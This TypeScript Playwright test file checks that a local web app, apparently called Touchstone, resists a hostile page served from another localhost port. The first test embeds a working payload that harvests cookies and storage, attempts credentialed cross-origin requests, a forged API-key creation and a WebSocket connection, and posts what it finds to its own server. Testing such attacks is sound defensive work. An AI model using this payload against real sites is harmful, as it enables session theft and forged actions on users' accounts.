import { once } from 'node:events';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { sessionHeader, socketProtocol } from '../../../shared/window-socket.ts';
import { expect, sessionHeaders, test } from '../../support/served-window.ts';

/** Tries from its own origin whatever a page can try, and reports it to its server. */
const hostilePage = (target: string) => `<!doctype html><script type="module">
  const seen = [document.cookie, JSON.stringify({ ...localStorage }), JSON.stringify({ ...sessionStorage }), name,
    document.referrer, String(opener)];
  const attempt = async (path, options) => {
    const response = await fetch(${JSON.stringify(target)} + path, { credentials: 'include', ...options }).catch(String);
    seen.push(typeof response === 'string' ? response : response.type + (await response.text()));
  };
  await attempt('/');
  await attempt('/', { mode: 'no-cors' });
  await attempt('/window/host');
  await attempt('/window/api-keys', { method: 'POST', body: '{"name":"stolen"}', mode: 'no-cors' });
  await new Promise((resolve) => {
    const socket = new WebSocket(${JSON.stringify(target.replace('http', 'ws'))} + '/window/socket', ['touchstone']);
    socket.onopen = () => resolve(seen.push('the socket opened'));
    socket.onerror = () => resolve(seen.push('no socket'));
  });
  await fetch('/report', { method: 'POST', body: JSON.stringify(seen) });
</script>`;

/** A server on another port of 127.0.0.1 that keeps all that it gets. */
async function startHostileServer(target: string) {
  const seen: string[] = [];
  const reported = Promise.withResolvers<string>();
  const server = createServer(async (request: IncomingMessage, response) => {
    seen.push(request.url ?? '', ...request.rawHeaders);
    const body = (await request.setEncoding('utf8').toArray()).join('');
    if (request.method === 'POST') reported.resolve(body);
    response.setHeader('content-type', 'text/html').end(request.url === '/' ? hostilePage(target) : '');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    address: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    seen,
    reported: reported.promise,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

test('nothing that a server on another port can see gives access to the API', async ({ page, served }) => {
  await using hostile = await startHostileServer(served.address);
  const { [sessionHeader]: secret = '' } = await sessionHeaders(page);
  expect(secret).toMatch(/^[\w-]{43}$/);
  const opened = page.waitForEvent('popup');
  await page.evaluate((address) => void open(address), hostile.address);
  await opened;
  const report = await hostile.reported;
  expect(report).toContain('no socket');
  const everything = [...hostile.seen, report].join('\n');
  // The browser sends the cookie to every port: that is why it is worth nothing without the secret.
  const cookie = /touchstone_\d+=[\w-]{43}/.exec(everything)?.[0];
  expect(cookie).toContain(`touchstone_${new URL(served.address).port}=`);
  expect(everything).not.toContain(secret);

  const words = [...new Set(everything.match(/[\w-]{16,}/g))];
  const forge = (method: string, path: string, headers: Record<string, string> = {}) =>
    fetch(served.address + path, {
      method,
      headers: { origin: served.address, cookie: cookie!, 'content-type': 'application/json', ...headers },
      ...(method === 'POST' && { body: JSON.stringify({ name: 'stolen', scopes: ['manage'] }) }),
    });
  expect((await forge('POST', '/window/api-keys')).status).toBe(401);
  for (const word of words) {
    expect((await forge('POST', '/window/api-keys', { [sessionHeader]: word })).status).toBe(401);
    const protocols = { 'sec-websocket-protocol': `${socketProtocol}, ${word}` };
    expect((await forge('GET', '/window/host', protocols)).status).toBe(401);
  }
  const window = await (await forge('GET', '/')).text();
  expect(window).not.toContain(secret);
  const { data } = (await page.evaluate(
    async ([header, value]) =>
      (await fetch('/window/api-keys', { headers: { [header as string]: value as string } })).json(),
    [sessionHeader, secret],
  )) as { data: unknown[] };
  expect(data).toEqual([]);
});

test('a second tab and a reload stay signed in; a browser without the secret shows how to sign in', async ({
  page,
  served,
}) => {
  await page.reload();
  await expect(page.getByRole('navigation', { name: 'Screens' })).toBeVisible();
  const second = await page.context().newPage();
  // The address was used, and this browser is signed in already.
  await second.goto(served.windowUrl);
  await expect(second).toHaveURL(/^[^?]*$/);
  await expect(second.getByRole('navigation', { name: 'Screens' })).toBeVisible();
  await second.evaluate(() => localStorage.clear());
  await second.reload();
  await expect(second.getByText('This browser is not signed in to Touchstone')).toBeVisible();
});
